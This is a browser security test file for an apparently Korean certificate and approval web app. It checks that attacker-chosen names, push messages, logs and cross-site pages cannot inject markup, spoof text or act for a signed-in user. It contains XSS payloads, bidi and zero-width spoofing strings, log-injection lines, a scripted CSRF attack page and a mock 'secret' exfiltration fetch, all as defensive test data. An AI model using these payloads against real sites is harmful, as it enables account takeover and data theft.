// pages.test.mjs - somebody chooses every string that he may, so that a person
// reads or a browser runs what he wants; or shows a page of his own to one who
// is signed in with us.
//
// Belongs here: what is shown in a real browser, in a push message, in a log.
// Not here: the same attacks by headers alone (sessions.test.mjs).
import test, { after, before } from 'node:test';
import assert from 'node:assert/strict';
import { createECDH, randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ece from 'http_ece';
import { OutsidePc, eventually, newMember, newNumber, send, sentCode } from '../lib/outside.mjs';
import { makeCertificate } from '../lib/certificate.mjs';
import { startService } from '../lib/service.mjs';
import { launch, open } from '../browser/browser.mjs';
import { finishImport, join_, passwordOnPc, press, startImport } from '../browser/steps.mjs';

const folder = mkdtempSync(join(tmpdir(), 'ingam-pages-'));
const number = newNumber();
const markup = '<img src=x onerror=__pwn(1)>', issuer = '<b onmouseover=__pwn(2)>CA';
/* What turns a line, hides, or ends it (base/text.c has the ranges). */
const deceiving = /[\u0000-\u001f\u007f-\u009f\u00ad\u061c\u115f\u1160\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\u{e0000}-\u{e0fff}]/u;
let running, browser, phone, certificate, evil;

/** A page of somebody else, on this machine: another origin, and by name even the same site. */
async function evilPages() {
  const pages = new Map();
  const server = createServer((q, r) => {
    r.setHeader('Content-Type', 'text/html');
    r.end(pages.get(q.url) ?? '');
  });
  await new Promise((done) => { server.listen(0, '127.0.0.1', done); });
  const { port } = server.address();
  return { pages, port, stop: () => new Promise((done) => { server.closeAllConnections?.(); server.close(done); }) };
}

before(async () => {
  running = await startService(['request-hour-limit=10000', 'request-day-limit=10000']);
  certificate = makeCertificate({ into: join(folder, markup), name: `${markup}()0010023400506789012345`, issuer });
  browser = await launch();
  evil = await evilPages();
  phone = await open(browser, [running.app], { kind: 'phone' });
  await phone.page.addInitScript(() => { globalThis.__pwn = (n) => { globalThis.__pwned = n; }; });
  await join_(phone.page, running.app, () => eventually('a code was sent', () => sentCode(running, number)), { name: '홍길동', birth: '9103151', phone: number, carrier: 'SKT' });
}, { timeout: 120000 });
after(async () => {
  await browser?.close();
  await evil?.stop();
  await running?.stop();
  rmSync(folder, { recursive: true, force: true });
});

/** What of a page came from a name: scripts that ran, elements that names became. */
const harm = (page) => page.evaluate(() => {
  const found = [];
  const walk = (root) => {
    for (const e of root.querySelectorAll('*')) {
      if (e.localName === 'img' && e.getAttribute('src') === 'x') found.push(e.outerHTML);
      if (e.localName === 'b' && e.hasAttribute('onmouseover')) found.push(e.outerHTML);
      if (['iframe', 'object', 'embed', 'base', 'form'].includes(e.localName)) found.push(e.outerHTML);
      for (const a of e.attributes) if (/^on/.test(a.name) || /^\s*javascript:/i.test(a.value)) found.push(`${e.localName} ${a.name}=${a.value}`);
      if (e.shadowRoot) walk(e.shadowRoot);
    }
  };
  walk(document);
  return { ran: globalThis.__pwned, found };
});
const unharmed = async (page, where) => assert.deepEqual(await harm(page), { ran: undefined, found: [] }, where);

/** What a stranger calls himself, and what may be read of it. */
const names = {
  'an image that fails': [markup, markup],
  'a script': ['<script>__pwn(3)</script>', '<script>__pwn(3)</script>'],
  'the end of an attribute': ['"><svg onload=__pwn(4)>\'', '"><svg onload=__pwn(4)>\''],
  'an address that is a script': ['javascript:__pwn(5)', 'javascript:__pwn(5)'],
  'a template\'s signs': ['${__pwn(6)} {{__pwn(6)}} {program} {machine:을를}', '${__pwn(6)} {{__pwn(6)}} {program} {machine:을를}'],
  'an entity': ['&lt;b&gt;&#60;script&#62;', '&lt;b&gt;&#60;script&#62;'],
  'a style': ['</style><style>*{display:none}', '</style><style>*{display:none}'],
  'text that runs backwards': ['Fire\u202exof.exe\u202c', 'Firexof.exe'],
  'isolates and marks': ['\u2066\u200fBank\u2069\u061c', 'Bank'],
  'what has no width': ['국\u200b민\u200d은\ufeff행\u2060', '국민은행'],
  'fillers and selectors': ['Bank\u3164\ufe0f\u{e0041}\u115f', 'Bank'],
  'a line of its own': ['Bank\r\n2099-01-01T00:00:00.000Z ingamd[1] info forged\u2028x', 'Bank2099-01-01T00:00:00.000Z ingamd[1] info forgedx'],
  'the colours of a terminal': ['\u001b[31mBank\u009b0m\u0007', '[31mBank0m'],
  'a member of every object': ['__proto__', '__proto__'],
  'text without end': ['가'.repeat(39), '가'.repeat(39)],
};

test('markup stands in the names of a certificate, of its issuer and of the folder: the PC\'s page shows text, and the phone too', { timeout: 120000 }, async () => {
  const pc = await open(browser, [running.pc], { kind: 'pc' });
  await pc.page.addInitScript(() => { globalThis.__pwn = (n) => { globalThis.__pwned = n; }; });
  const digits = await startImport(phone.page);
  await pc.page.goto(`${running.pc}/import`);
  await pc.page.getByLabel('승인번호 13자리').fill(digits);
  await press(pc.page, '확인');
  await pc.page.getByRole('button', { name: '폴더 열기' }).waitFor();
  await pc.page.locator('input#folder').setInputFiles(join(folder, markup));
  await pc.page.getByText(issuer, { exact: true }).first().waitFor();
  assert.ok(await pc.page.getByText(markup, { exact: true }).first().isVisible(), 'the owner\'s name stands there as text');
  await unharmed(pc.page, 'the list of the PC');
  await press(pc.page, '다음');
  await passwordOnPc(pc.page, certificate.password);
  await finishImport(phone.page, certificate.password);
  await pc.page.getByRole('heading', { name: '등록 완료' }).waitFor();
  await unharmed(pc.page, 'the PC at the end');
  await unharmed(phone.page, 'the phone at the end');
  await phone.page.goto(running.app);
  await phone.page.getByText(markup, { exact: true }).first().waitFor();
  await unharmed(phone.page, 'the list of the phone');
  await phone.page.getByText(markup, { exact: true }).first().click();
  await phone.page.getByText(issuer).first().waitFor();
  await unharmed(phone.page, 'the certificate on the phone');
  assert.deepEqual(pc.faults, []);
  assert.deepEqual(phone.faults, []);
  await pc.context.close();
});

test('a stranger calls his program, machine and user what he likes: the phone shows text and nothing that deceives, in the list, the request and the history', { timeout: 120000 }, async () => {
  const { page } = phone;
  const asked = [];
  await page.goto(running.app);
  for (const [what, [given, shown]] of Object.entries(names)) {
    const pc = new OutsidePc(running, number, { program: given, machine: `${given}m`, user: `${given}u` });
    const answer = await pc.tryAsk();
    assert.equal(answer.status, 201, `${what}: ${answer.text}`);
    const link = page.locator(`a.ask[href="/r/${pc.id}"]`);
    await link.waitFor();
    assert.equal(await link.locator('strong').textContent(), shown, `${what}, in the list`);
    await unharmed(page, `${what}, in the list`);
    await link.click();
    await page.locator('h1.who').waitFor();
    assert.equal(await page.locator('h1.who').textContent(), shown, what);
    assert.equal(await page.locator('h1.who').evaluate((e) => e.childElementCount), 0, what);
    const facts = await page.locator('dl.facts').first().innerText();
    assert.ok(facts.includes(`${shown}m`.slice(0, 30)) && facts.includes(`${shown}u`.slice(0, 30)), `${what}: ${facts}`);
    await unharmed(page, what);
    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth > document.documentElement.clientWidth + 1), false, `${what}: runs out of the page`);
    await press(page, '거절');
    await page.getByRole('button', { name: '홈으로' }).click();
    asked.push(shown);
  }
  await page.goto(`${running.app}/history`);
  await page.getByText(asked.at(-1)).first().waitFor();
  const text = await page.evaluate(() => { const out = []; const walk = (n) => { if (n.nodeType === 3) out.push(n.data); (n.shadowRoot ?? n).childNodes.forEach(walk); }; walk(document.body); return out.join(''); });
  for (const shown of asked) assert.ok(text.includes(shown.slice(0, 30)), `${shown} in the history`);
  assert.doesNotMatch(text.replaceAll('\n', ' '), deceiving);
  await unharmed(page, 'the history');
  assert.deepEqual(phone.faults, [], 'nothing of it was even tried');
});

test('a stranger piles marks on a letter, to draw over the lines beside it, and asks for no number: the marks stay in their line, and the phone says what approving does', { timeout: 60000 }, async () => {
  const { page } = phone;
  const pc = new OutsidePc(running, number, { program: `Chrome${'\u0322\u0316\u0353'.repeat(18)}`, machine: `desk${'\u0301\u0310\u033e'.repeat(18)}`, mode: 'push' });
  assert.equal((await pc.tryAsk()).status, 201);
  await page.goto(`${running.app}/r/${pc.id}`);
  await page.locator('h1.who').waitFor();
  for (const line of ['h1.who', 'dl.facts dd']) assert.equal(await page.locator(line).first().evaluate((e) => getComputedStyle(e).overflowY), 'clip', line);
  assert.ok(await page.getByText('승인하면 번호를 입력하지 않아도 그 PC에서 바로 쓸 수 있어요.').isVisible());
  await press(page, '거절');
  await page.getByRole('button', { name: '홈으로' }).click();
});

test('what a name smuggled into the page could do: inline scripts, handlers, eval, markup from text and scripts of others are all shut', async () => {
  for (const { page } of [phone, await open(browser, [running.pc], { kind: 'pc' })]) {
    const answer = await page.goto(page === phone.page ? running.app : running.pc);
    // Two walls, and either would do: what the policy names, and what a browser then refuses.
    const policy = Object.fromEntries((await answer.headerValue('content-security-policy')).split('; ').map((d) => [d.split(' ')[0], d.split(' ').slice(1).join(' ')]));
    assert.deepEqual(policy, { 'default-src': "'none'", 'script-src': "'self' 'wasm-unsafe-eval'", 'style-src': "'self'", 'img-src': "'self' data: blob:", 'font-src': "'self'", 'connect-src': "'self'", 'manifest-src': "'self'", 'worker-src': "'self'",
      'media-src': "'self' blob:", 'frame-ancestors': "'none'", 'base-uri': "'none'", 'form-action': "'none'", 'require-trusted-types-for': "'script'", 'trusted-types': 'lit-html ingam' });
    const got = await page.evaluate(async (port) => {
      const tried = {};
      const attempt = async (what, f) => {
        try {
          await f();
          tried[what] = globalThis.__got === what ? 'ran' : 'nothing';
        } catch (e) {
          tried[what] = e.name;
        }
      };
      const element = (name, attributes) => document.body.appendChild(Object.assign(document.createElement(name), attributes));
      await attempt('inline', () => { const s = document.createElement('script'); s.append('globalThis.__got = "inline"'); document.body.append(s); });
      await attempt('handler', () => { const b = element('button', {}); b.setAttribute('onclick', 'globalThis.__got = "handler"'); b.click(); });
      await attempt('address', () => { const a = element('a', { href: 'javascript:globalThis.__got="address"' }); a.click(); });
      // In a task of its own: what the test itself evaluates may do more than the page.
      const later = (f) => new Promise((done, fail) => { setTimeout(() => { try { done(f()); } catch (e) { fail(e); } }); });
      await attempt('eval', () => later(() => (0, eval)('globalThis.__got = "eval"')));
      await attempt('function', () => later(() => Function('globalThis.__got = "function"')()));
      await attempt('markup', () => { element('div', {}).innerHTML = '<img src=x onerror="globalThis.__got=\'markup\'">'; });
      await attempt('frame', () => { element('iframe', { srcdoc: '<script>parent.__got="frame"</script>' }); });
      await attempt('other', () => new Promise((done, fail) => { const s = document.createElement('script'); s.onload = done; s.onerror = () => fail(new TypeError()); s.src = `http://localhost:${port}/x.js`; document.body.append(s); }));
      await attempt('tell', () => fetch(`http://localhost:${port}/?secret`, { mode: 'no-cors' }));
      await attempt('policy', () => trustedTypes.createPolicy('default', { createHTML: (t) => t }));
      await new Promise((done) => { setTimeout(done, 300); });
      return { tried, got: globalThis.__got };
    }, evil.port);
    assert.equal(got.got, undefined, JSON.stringify(got));
    for (const what of ['eval', 'function', 'markup', 'other', 'tell', 'policy']) assert.notEqual(got.tried[what], 'nothing', `${what}: ${JSON.stringify(got.tried)}`);
  }
});

test('a page of another site, and of the same site by name, acts for one who is signed in: nothing is done, nothing is read, nothing is framed', { timeout: 60000 }, async () => {
  const session = (await phone.context.cookies(running.app)).find((c) => c.name === 'ingam');
  const me = (path, method = 'GET', body = undefined) => send(running.app, method, `/api/v1${path}`, { body, cookie: `ingam=${session.value}` });
  const pc = new OutsidePc(running, number, { program: 'waits' });
  await pc.tryAsk();
  // Blocked by his own wish: a page that could act for him would take that back.
  for (const machine of ['thief', 'thief 2']) {
    const stranger = new OutsidePc(running, number, { machine });
    await stranger.tryAsk();
    assert.equal((await me(`/requests/${stranger.id}/refuse`, 'POST', { not_me: true })).status, 200);
  }
  assert.ok((await me('/me')).json.blocked_until > Date.now());
  const before = [(await me('/history')).text, (await me('/requests')).text, (await me('/me')).text];
  evil.pages.set('/attack', `<body><script>
    const app = ${JSON.stringify(running.app)}, pcs = ${JSON.stringify(running.pc)}, id = ${JSON.stringify(pc.id)}, read = [];
    const tries = [['/api/v1/requests/' + id + '/refuse', '{"not_me":true}'], ['/api/v1/unblock', '{}'], ['/api/v1/transfers', '{}'], ['/api/v1/push/test', '{}'], ['/api/v1/requests/' + id + '/approval', '{}']];
    (async () => {
      for (const [path, body] of tries)
        for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/json'])
          for (const mode of ['no-cors', 'cors'])
            await fetch(app + path, { method: 'POST', mode, credentials: 'include', headers: { 'Content-Type': type }, body }).then((r) => r.text()).then((t) => t && read.push(path + ' ' + t)).catch(() => {});
      await fetch(app + '/api/v1/session', { method: 'DELETE', credentials: 'include' }).catch(() => {});
      navigator.sendBeacon(app + '/api/v1/requests/' + id + '/refuse', new Blob(['{"not_me":true}'], { type: 'text/plain' }));
      for (const path of ['/api/v1/me', '/api/v1/requests', '/api/v1/history', '/api/v1/certificates', '/api/v1/events'])
        await fetch(app + path, { credentials: 'include' }).then((r) => r.text()).then((t) => read.push(path + ' ' + t)).catch(() => {});
      await fetch(pcs + '/rp/v1/token/requests', { method: 'POST', mode: 'no-cors', body: '{}' }).catch(() => {});
      const f = document.createElement('form'); f.method = 'post'; f.action = app + '/api/v1/requests/' + id + '/refuse'; f.enctype = 'text/plain'; f.target = 'hole';
      f.innerHTML = '<input name=\\'{"not_me":true,"x":"\\' value=\\'"}\\'>'; document.body.append(f);
      const hole = document.createElement('iframe'); hole.name = 'hole'; document.body.append(hole); f.submit();
      for (const path of ['/', '/r/' + id, '/api/v1/me']) { const i = document.createElement('iframe'); i.src = app + path; document.body.append(i); }
      const s = document.createElement('script'); s.src = app + '/api/v1/me'; s.onload = () => read.push('script loaded'); document.body.append(s);
      const o = window.open(app); await new Promise((done) => { setTimeout(done, 1500); });
      try { read.push('opened ' + o.document.body.innerText); } catch {}
      window.__severed = o === null || o.closed; window.__read = read; window.__done = true;
    })();
  </script>`);
  for (const host of ['localhost', '127.0.0.1']) {
    const page = await phone.context.newPage();
    await page.goto(`http://${host}:${evil.port}/attack`);
    await page.waitForFunction(() => window.__done, undefined, { timeout: 20000 });
    assert.deepEqual(await page.evaluate(() => window.__read), [], `${host}: something was read`);
    assert.equal(await page.evaluate(() => window.__severed), true, `${host}: a window of ours is in another's hand`);
    const framed = page.frames().filter((f) => f !== page.mainFrame()).map((f) => f.url());
    assert.ok(framed.length >= 4 && framed.every((url) => !url.startsWith(running.app)), `${host}: framed ${framed}`);
    await page.close();
  }
  for (const page of phone.context.pages()) if (page !== phone.page) await page.close();
  assert.deepEqual([(await me('/history')).text, (await me('/requests')).text, (await me('/me')).text], before);
  await me('/unblock', 'POST', {});
});

test('a stranger\'s names in a push message: no line, no mark that turns or hides text, and no more than a lock screen holds', async () => {
  const member = await newMember(running), ecdh = createECDH('prime256v1'), auth = randomBytes(16);
  ecdh.generateKeys();
  await member.app('PUT', '/push', { endpoint: `${running.mock}/push/names`, p256dh: ecdh.getPublicKey('base64url'), auth: auth.toString('base64url') });
  for (const [what, [given, shown]] of Object.entries(names)) {
    const pc = new OutsidePc(running, member.number, { program: given, machine: `${given}m` });
    await pc.tryAsk();
    const text = await eventually(`${what} rang`, async () => {
      const got = await (await fetch(`${running.mock}/mock/push/names`)).json();
      const raw = (got.messages ?? got).at(-1);
      const opened = raw && ece.decrypt(Buffer.from(raw.body ?? raw.data, 'base64'), { version: 'aes128gcm', privateKey: ecdh, authSecret: auth }).toString().replace(/\0+$/, '');
      return opened?.includes(pc.id) && opened;
    });
    assert.deepEqual(JSON.parse(text), { type: 'request', id: pc.id, kind: 'token', program: shown, machine: `${shown}m` }, what);
    assert.doesNotMatch(text, deceiving, what);
    assert.ok(text.length < 1024, what);
    await member.app('POST', `/requests/${pc.id}/refuse`, { not_me: false });
  }
});

test('somebody writes lines of his own into the log, by every string that he may send: each line is ours', async () => {
  const forged = '2099-01-01T00:00:00.000Z ingamd[1] info forged';
  for (const field of ['program', 'machine', 'user', 'phone']) await new OutsidePc(running, newNumber(), {}).tryAsk({ [field]: `x\r\n${forged}` });
  for (const headers of [{ 'User-Agent': forged }, { Referer: forged }, { 'X-Forwarded-For': forged }, { Cookie: `ingam=${forged}` }, { Authorization: `Bearer ${forged}` }])
    await send(running.app, 'GET', `/${encodeURIComponent(`\n${forged}`)}`, { headers });
  await send(running.app, 'POST', '/api/v1/join', { body: { name: `\n${forged}`, birth: `\n${forged}`, phone: `\n${forged}`, carrier: `\n${forged}`, terms: true } });
  await send(running.app, 'POST', '/api/v1/join', { body: { name: '김부하', birth: '9001011', phone: '01000000017', carrier: 'SKT', terms: true } });
  const member = await newMember(running);
  await send(running.app, 'PUT', '/api/v1/push', { cookie: member.cookie, body: { endpoint: `https://x/\n${forged}`, p256dh: 'A'.repeat(87), auth: 'A'.repeat(22) } });
  const lines = running.log.join('').split('\n').filter((l) => l !== '');
  assert.ok(lines.length > 0);
  for (const line of lines) assert.match(line, /^\d{4}-\d\d-\d\dT[\d:.]+Z [\w-]+\[\d+\] (debug|info|warn|error) /, line);
  assert.ok(!lines.some((l) => l.includes('forged')), 'nor is it there in the middle of one');
});

test('a certificate whose owner\'s name runs backwards or hides: it is registered by what can be read of it, or not at all', async () => {
  const member = await newMember(running);
  for (const [i, name] of ['홍\u202e길동\u202c()0010023400506789012347', '홍\u200b길\u2066동()0010023400506789012348'].entries()) {
    const made = makeCertificate({ into: join(folder, `bidi${i}`), name });
    await member.import(made).catch((e) => assert.ok(e.status >= 400 && e.status < 500, e.message));
  }
  const { certificates } = await member.app('GET', '/certificates');
  for (const c of certificates) assert.doesNotMatch(c.owner + c.issuer + c.issuer_organisation, deceiving);
});
